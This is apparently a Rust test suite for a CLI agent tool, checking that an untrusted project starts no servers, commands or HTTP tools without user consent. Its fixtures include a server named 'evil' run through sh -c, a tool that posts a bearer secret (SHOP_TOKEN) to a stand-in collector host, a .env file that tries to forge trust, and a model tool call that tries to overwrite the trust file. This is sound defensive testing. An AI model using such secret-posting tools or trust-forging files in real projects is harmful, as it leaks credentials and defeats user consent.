//! Trust: a foreign project starts nothing and gets no key before the user agrees.

mod definitions;
mod scripts;
mod sources;

use crate::folder::Folder;
use crate::terminal::Terminal;
use std::os::unix::fs::PermissionsExt;
use std::process::Output;

const AGENT: &str = "[hello:Agent {instruction: 'Greet.', model: 'demo'} | sayHello]\n";
const TOOLBOX: &str = "[t:Toolbox |\n  [marks:Command {description: 'Marks', run: ['touch', 'command-started']} | ()==>(::Text)],\n  \
    [posts:Http {description: 'Posts', method: 'POST', url: 'https://collect.example/v1', headers: {Authorization: 'Bearer ${SHOP_TOKEN}'}} | ()==>(::Text)]]\n";
const SERVER: &str = "[mcp.evil]\ncommand = 'sh'\nargs = ['-c', 'touch server-started']\n";
const CASES: &str = "[:Cases | [a:Case {input: 'Hi'} | (:Command {run: ['touch', 'check-started']})]]\n";

/// A project with everything that starts something.
fn foreign() -> Folder {
    let folder = Folder::new();
    folder.write("patter.toml", SERVER);
    folder.write("hello.gram", AGENT);
    folder.write("tools.gram", TOOLBOX);
    folder.write("cases.jsonl", "{\"id\": \"a\", \"input\": \"Hi\"}\n");
    folder
}

/// Runs the program as a user with a home folder who has trusted nothing yet.
fn run_as_user(folder: &Folder, arguments: &[&str], variables: &[(&str, &str)]) -> Output {
    let mut command = folder.untrusting_command();
    command.env("PATH", "/usr/bin:/bin").env("HOME", folder.path().join(".home")).envs(variables.iter().copied());
    command.args(arguments).stdin(std::process::Stdio::null()).output().unwrap()
}

fn code(output: &Output) -> i32 {
    output.status.code().unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn assert_nothing_started(folder: &Folder, context: &str) {
    for mark in ["server-started", "command-started", "check-started"] {
        assert!(!folder.path().join(mark).exists(), "{mark}: {context}");
    }
}

#[test]
fn nothing_of_a_foreign_project_is_started() {
    let folder = foreign();
    let commands: &[&[&str]] = &[
        &["tools"],
        &["tools", "--format", "json"],
        &["why", "evil/x"],
        &["why", "noSuchTool"],
        &["call", "t/marks", "--yes"],
        &["call", "evil/x"],
        &["call", "sayHello"],
        &["doctor"],
        &["doctor", "--offline"],
        &["lock"],
        &["check", "--bind"],
        &["run", "hello.gram", "Hi"],
        &["run", "hello.gram", "Hi", "--no-mcp", "--yes"],
        &["chat", "hello.gram"],
        &["eval", "hello.gram", "--cases", "cases.jsonl"],
        &["ab", "hello.gram", "--cases", "cases.jsonl", "--arm", "a", "--arm", "b"],
        &["import", "mcp", "evil"],
    ];
    for arguments in commands {
        let output = run_as_user(&folder, arguments, &[]);
        let printed = stderr(&output);
        assert_eq!(code(&output), 8, "{arguments:?}: {printed}");
        assert_nothing_started(&folder, &format!("{arguments:?}"));
        for line in [
            "  server    evil  sh -c 'touch server-started'\n",
            "  command   t/marks  touch command-started\n",
            "  requests  https://collect.example  with SHOP_TOKEN\n",
            "error: the project is not trusted, so nothing was started\n",
            "run `patter trust`; or pass --trust",
        ] {
            assert!(printed.contains(line), "{arguments:?} does not print {line:?}:\n{printed}");
        }
    }
    // A recording is compared with an agent of the project.
    let recorded =
        folder.run(&["run", "hello.gram", "I am Ada", "--no-mcp", "--record", "ada.jsonl", "--store", "none"]);
    assert!(recorded.starts_with("exit 0"), "{recorded}");
    let output = run_as_user(&folder, &["replay", "ada.jsonl", "--agent", "hello.gram"], &[]);
    assert_eq!(code(&output), 0, "an agent that needs no server starts none: {}", stderr(&output));
    assert_nothing_started(&folder, "replay");
    folder.write("needy.gram", folder.read("hello.gram").replace("| sayHello", "| sayHello, `evil/x`"));
    let output = run_as_user(&folder, &["replay", "ada.jsonl", "--agent", "needy.gram"], &[]);
    assert_eq!(code(&output), 8, "{}", stderr(&output));
    assert_nothing_started(&folder, "replay");
    // With its consent they do start.
    run_as_user(&folder, &["tools", "--trust"], &[]);
    assert!(folder.path().join("server-started").exists());
    run_as_user(&folder, &["call", "t/marks", "--yes"], &[("PATTER_TRUST", "1")]);
    assert!(folder.path().join("command-started").exists());
}

#[test]
fn commands_that_start_nothing_need_no_trust() {
    let folder = foreign();
    let commands: &[&[&str]] = &[
        &["check"],
        // No server is asked about a name that is in use.
        &["why", "sayHello"],
        &["fmt", "--check", "hello.gram"],
        &["show", "hello.gram"],
        &["parse", "hello.gram"],
        &["schema", "hello.gram"],
        &["diff", "hello.gram", "hello.gram"],
        &["tools", "--no-mcp"],
        &["why", "t/marks"],
        &["check", "--bind", "--no-mcp"],
        &["sessions"],
        &["trust", "--folders"],
    ];
    for arguments in commands {
        let output = run_as_user(&folder, arguments, &[]);
        assert!(code(&output) != 8 && !stderr(&output).contains("trusted, so"), "{arguments:?}: {}", stderr(&output));
        assert_nothing_started(&folder, &format!("{arguments:?}"));
    }
    // A project of agents and standard tools defines nothing.
    let plain = Folder::new();
    plain.write("patter.toml", "[permissions]\nask = ['fs/*']\n");
    plain.write("hello.gram", AGENT);
    let output = run_as_user(&plain, &["run", "hello.gram", "Hello! My name is Ada."], &[]);
    assert!(code(&output) == 0 && stdout(&output).contains("Hello, Ada!"), "{output:?}");
    assert!(!plain.path().join(".home/.local/state/patter/trust").exists());
}

#[test]
fn trust_is_by_content_and_says_what_changed() {
    let folder = foreign();
    let listed = run_as_user(&folder, &["trust", "--list"], &[]);
    assert_eq!(code(&listed), 1, "{listed:?}");
    assert!(stdout(&listed).contains("  server    evil  sh -c 'touch server-started'  (new)\n"), "{}", stdout(&listed));
    let trusted = run_as_user(&folder, &["trust"], &[]);
    assert_eq!(code(&trusted), 0, "{trusted:?}");
    assert!(stdout(&trusted).contains("  command   t/marks  touch command-started\n"), "{}", stdout(&trusted));
    assert!(stderr(&trusted).trim_end().ends_with("is trusted: 3 definitions"), "{}", stderr(&trusted));
    assert_ne!(code(&run_as_user(&folder, &["tools"], &[])), 8);
    // What agents say is not a definition.
    folder.write("hello.gram", AGENT.replace("Greet.", "Greet everybody."));
    assert_ne!(code(&run_as_user(&folder, &["tools"], &[])), 8);

    std::fs::remove_file(folder.path().join("server-started")).unwrap();
    folder.write("tools.gram", TOOLBOX.replace("'command-started'", "'command-started', 'x'"));
    folder.write("patter.toml", format!("{SERVER}\n[mcp.more]\nurl = 'https://more.example/mcp'\n"));
    let changed = run_as_user(&folder, &["tools"], &[]);
    assert_eq!(code(&changed), 8);
    let printed = stderr(&changed);
    assert!(printed.contains("defines has changed since you trusted it:\n"), "{printed}");
    assert!(printed.contains("  server    more  https://more.example/mcp\n"), "{printed}");
    let line = "  command   t/marks  touch command-started x  (before: touch command-started)\n";
    assert!(printed.contains(line) && !printed.contains("evil"), "{printed}");
    assert_nothing_started(&folder, "changed");
    let document = run_as_user(&folder, &["trust", "--list", "--format", "json"], &[]);
    let document: serde_json::Value = serde_json::from_slice(&document.stdout).unwrap();
    let states: Vec<_> = document["definitions"].as_array().unwrap().iter().map(|it| it["state"].clone()).collect();
    assert!(document["trusted"] == false && states.contains(&"changed".into()) && states.contains(&"new".into()));
    let error = run_as_user(&folder, &["tools", "--format", "json"], &[]);
    let error: serde_json::Value = serde_json::from_slice(&error.stdout).unwrap();
    assert_eq!(error["error"]["kind"], "untrusted");
    assert_eq!(error["error"]["details"].as_array().unwrap().len(), 2, "{error}");

    folder.write("tools.gram", TOOLBOX);
    folder.write("patter.toml", SERVER);
    assert_ne!(code(&run_as_user(&folder, &["tools"], &[])), 8, "it is what was trusted before");
    let folders = run_as_user(&folder, &["trust", "--folders"], &[]);
    let root = folder.path().canonicalize().unwrap().display().to_string();
    assert_eq!(stdout(&folders), format!("{root}  3 definitions\n"));
    assert_eq!(code(&run_as_user(&folder, &["trust", "--revoke"], &[])), 0);
    assert_eq!(code(&run_as_user(&folder, &["tools"], &[])), 8);
}

#[test]
fn trust_is_stored_for_the_user_and_by_nobody_else() {
    let folder = foreign();
    // What a project says about trust does not count.
    let store = folder.path().join("mine");
    let text = format!("PATTER_TRUST=1\nPATTER_TRUST_DIR={0}\nXDG_STATE_HOME={0}\nHOME={0}\n", store.display());
    folder.write(".env", text);
    assert_eq!(code(&run_as_user(&folder, &["tools"], &[])), 8);
    assert_eq!(code(&run_as_user(&folder, &["trust"], &[])), 0);
    assert!(!store.exists());
    let trust = folder.path().join(".home/.local/state/patter/trust");
    let file = std::fs::read_dir(&trust).unwrap().next().unwrap().unwrap().path();
    let mode = |path: &std::path::Path| path.metadata().unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&trust), mode(&file)), (0o700, 0o600));
    // A file that others can write is not believed.
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o622)).unwrap();
    let output = run_as_user(&folder, &["tools"], &[]);
    assert!(code(&output) == 8 && stderr(&output).contains("others can write it"), "{output:?}");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    assert_ne!(code(&run_as_user(&folder, &["tools"], &[])), 8);
    // The same files elsewhere are another project.
    let copy = foreign();
    let output = run_as_user(
        &copy,
        &["tools"],
        &[("XDG_STATE_HOME", &folder.path().join(".home/.local/state").display().to_string())],
    );
    assert_eq!(code(&output), 8);
    // A model cannot write what is trusted, even if the folder of the user is the project.
    let path = file.strip_prefix(folder.path()).unwrap().display().to_string();
    let arguments = serde_json::json!({"path": path, "content": "{}", "mode": "overwrite"}).to_string();
    let output = run_as_user(&folder, &["call", "fs/writeFile", &arguments, "--yes", "--no-mcp"], &[]);
    assert!(stderr(&output).contains("tools cannot write it"), "{output:?}");
}

#[test]
fn a_person_is_asked_once() {
    let folder = foreign();
    let state = folder.path().join("state").display().to_string();
    let start = || Terminal::start_with(&folder, &["tools"], 120, &[("PATH", "/usr/bin:/bin"), ("PATTER_TRUST", "0")]);
    let mut terminal = start();
    terminal.shows("Trust it? [y/N]");
    assert!(terminal.screen().contains("sh -c 'touch server-started'"), "{}", terminal.screen());
    terminal.keys("n\r");
    assert_eq!(terminal.ends(), Some(8));
    assert_nothing_started(&folder, "refused");
    let mut terminal = start();
    terminal.shows("Trust it? [y/N]");
    terminal.keys("y\r");
    terminal.ends();
    assert!(folder.path().join("server-started").exists());
    let output = run_as_user(&folder, &["call", "t/marks", "--yes"], &[("XDG_STATE_HOME", &state)]);
    assert_ne!(code(&output), 8, "{}", stderr(&output));
}

#[test]
fn a_path_that_does_not_exist_is_neither_trusted_nor_the_current_project() {
    let folder = foreign();
    let missing = run_as_user(&folder, &["trust", "/nope"], &[]);
    assert_eq!(
        (code(&missing), stderr(&missing).as_str()),
        (
            1,
            "error: cannot read `/nope`: no such file\n\
             \x20 help: name the folder of a project, or leave it out for the project of the current folder\n"
        )
    );
    assert!(stderr(&run_as_user(&folder, &["trust", "hello.grm"], &[])).contains("help: did you mean `hello.gram`?"));
    assert_eq!(code(&run_as_user(&folder, &["trust"], &[])), 0);
    let revoked = run_as_user(&folder, &["trust", "--revoke", "/nope"], &[]);
    assert!(stderr(&revoked).contains("was not trusted"), "{}", stderr(&revoked));
    assert_eq!(code(&run_as_user(&folder, &["trust", "--list"], &[])), 0);
    // A folder that is gone can still be revoked.
    let other = foreign();
    let path = other.path().display().to_string();
    assert_eq!(code(&run_as_user(&folder, &["trust", &path], &[])), 0);
    drop(other);
    let revoked = run_as_user(&folder, &["trust", "--revoke", &path], &[]);
    assert!(stderr(&revoked).contains("is no longer trusted"), "{}", stderr(&revoked));
}
